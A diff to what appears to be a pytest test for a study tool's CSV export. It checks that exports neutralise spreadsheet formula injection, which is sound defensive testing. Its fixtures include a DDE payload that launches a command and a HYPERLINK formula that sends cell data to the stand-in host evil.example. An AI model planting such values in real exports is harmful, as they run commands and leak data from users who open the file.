@@ -7,6 +7,7 @@ from collections import Counter
 
 import pytest
 
+from structext_core.structext_eval import study as structext_study
 from structext_core.studio import study
 from tests.studio.study.support import policy_all_half_none, run_study
 
@@ -43,7 +44,7 @@ FORMULAS = ["=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+2", "\r=1+2"]
 
 def test_the_csv_export_writes_no_formula_and_the_jsonl_keeps_the_text(db, samples, annotators):
     """Issue 19, item 8: answers and a study name a spreadsheet would run."""
-    study_id = study.create_study(db, name='=HYPERLINK("http://evil.example/?"&A1,"x")', suite="test-hard",
+    study_id = structext_study.create_study(db, name='=HYPERLINK("http://evil.example/?"&A1,"x")', suite="test-hard",
                                   samples=samples, n_items=6, annotator_ids=[annotators[0]["id"]],
                                   practice_items=1, gold_items=1)
     user_id = annotators[0]["id"]
